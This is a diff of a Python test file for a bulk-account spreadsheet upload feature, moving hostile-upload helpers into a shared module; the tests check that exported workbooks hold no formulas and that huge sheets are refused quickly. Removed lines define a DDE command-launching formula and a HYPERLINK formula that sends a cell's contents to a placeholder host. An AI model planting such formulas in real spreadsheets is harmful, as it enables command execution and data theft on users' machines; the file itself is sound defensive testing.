@@ -13,11 +13,6 @@ from __future__ import annotations
 
 import html
 import io
-import re
-import time
-import tracemalloc
-import zipfile
-from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -31,15 +26,20 @@ from parindex.accounts.tests.conftest import Province, xlsx
 from parindex.accounts.views.bulk import SESSION_ROWS
 from parindex.accounts.xlsx import rows_from_xlsx
 from parindex.core.errors import ServiceError
-from parindex.exchange.tests.hostile import entity_workbook, million_cells, not_a_zip
+from parindex.exchange.tests.hostile import (
+    DDE,
+    HYPERLINK,
+    MAX_PEAK_BYTES,
+    MAX_SECONDS,
+    MIB,
+    assert_no_formula,
+    entity_workbook,
+    measure,
+    million_cells,
+    not_a_zip,
+)
+from parindex.exchange.tests.hostile import lifted_part_limits as lifted
 from parindex.units.tests.factories import UnitFactory
-
-MIB = 1024 * 1024
-MAX_SECONDS = 2.0
-MAX_PEAK_BYTES = 50 * MIB
-HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")'
-DDE = "=cmd|' /C calc'!A0"
-FORMULA_ELEMENT = re.compile(rb"<(?:[A-Za-z0-9_]+:)?f[\s/>]")
 
 
 def counts() -> tuple[int, int]:
@@ -50,34 +50,6 @@ def _file(data: bytes, name: str = "danh-sach.xlsx") -> io.BytesIO:
     stream = io.BytesIO(data)
     stream.name = name
     return stream
-
-
-def _measure(call: Callable[[], Any]) -> tuple[Any, float, int]:
-    """(result, wall seconds without tracemalloc, peak traced bytes of a second run)."""
-    start = time.perf_counter()
-    result = call()
-    seconds = time.perf_counter() - start
-    tracemalloc.start()
-    try:
-        call()
-        _current, peak = tracemalloc.get_traced_memory()
-    finally:
-        tracemalloc.stop()
-    return result, seconds, peak
-
-
-def _assert_no_formula(data: bytes) -> None:
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        sheets = [
-            n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
-        ]
-        assert sheets
-        for name in sheets:
-            assert not FORMULA_ELEMENT.search(archive.read(name)), f"a formula in {name}"
-    for ws in load_workbook(io.BytesIO(data)).worksheets:
-        for row in ws.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
 
 
 def _text_workbook(rows: list[list[str]]) -> io.BytesIO:
@@ -99,12 +71,7 @@ def _text_workbook(rows: list[list[str]]) -> io.BytesIO:
 
 @pytest.fixture
 def lifted_part_limits(settings: Any) -> None:
-    """Part-size limits high enough that the 3M-cell sheet is streamed and counted."""
-    settings.SHEET_LIMITS = {
-        **settings.SHEET_LIMITS,
-        "max_part_bytes": 200 * MIB,
-        "max_total_bytes": 400 * MIB,
-    }
+    settings.SHEET_LIMITS = lifted(settings.SHEET_LIMITS)
 
 
 # --- Hostile uploads -------------------------------------------------------------------------
@@ -124,7 +91,7 @@ def test_three_million_cells_are_refused_fast_in_bounded_memory(
     client.force_login(province["organiser"])
     assert client.get(reverse("accounts:bulk_upload")).status_code == 200  # warm up
     before = counts()
-    response, seconds, peak = _measure(lambda: _post(client, data))
+    response, seconds, peak = measure(lambda: _post(client, data))
     print(f"bulk accounts, 3M cells ({limits}): {seconds:.3f} s, peak {peak / MIB:.1f} MiB")
     page = html.unescape(response.content.decode())
     assert response.status_code == 200
@@ -197,7 +164,7 @@ def test_template_keeps_formula_like_unit_names_as_text(province: Province, clie
     client.force_login(province["organiser"])
     response = client.get(reverse("accounts:bulk_template"))
     assert response.status_code == 200
-    _assert_no_formula(response.content)
+    assert_no_formula(response.content)
     units = {
         row[0]: row[1]
         for row in load_workbook(io.BytesIO(response.content))["Đơn vị"].iter_rows(
@@ -231,7 +198,7 @@ def test_formula_like_full_names_go_in_and_out_as_text(province: Province, clien
 
     download = client.get(reverse("accounts:bulk_download"))
     assert download.status_code == 200
-    _assert_no_formula(download.content)
+    assert_no_formula(download.content)
     sheet = load_workbook(io.BytesIO(download.content)).active
     got = {r[1]: r[2] for r in sheet.iter_rows(min_row=2, values_only=True)}
     assert got == {
